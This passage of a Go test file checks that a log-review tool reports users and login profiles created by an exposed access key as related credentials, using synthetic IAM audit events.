		t.Fatalf("a refusal under orders-api's application name is not pinned on it:\n%s", dump(rep))
	}
}

// TestCreatedUserIsRelated: a user the key made is one related
// credential of kind user, whether its CreateLoginProfile is read before
// its CreateUser or after; a password given to an existing user is a
// login-profile.
func TestCreatedUserIsRelated(t *testing.T) {
	create := ev(at(1, 10, 3), "iam:CreateUser", from("198.51.100.77"), detail("derived_user", "ops-backup"))
	login := ev(at(1, 10, 4), "iam:CreateLoginProfile", from("198.51.100.77"), detail("derived_user", "ops-backup"))
	other := ev(at(1, 10, 5), "iam:CreateLoginProfile", from("198.51.100.77"), detail("derived_user", "carol"))
	for _, order := range [][]logs.Event{{create, login, other}, {login, other, create}} {
		rep := review(config(), append(clean(), order...))
		got := map[string]string{}
		for _, r := range rep.Related {
			got[r.Credential] = r.Kind
		}
		if len(got) != 2 || got["ops-backup"] != "user" || got["carol"] != "login-profile" {
			t.Errorf("related %v, want ops-backup a user and carol a login-profile", got)
		}
	}
}
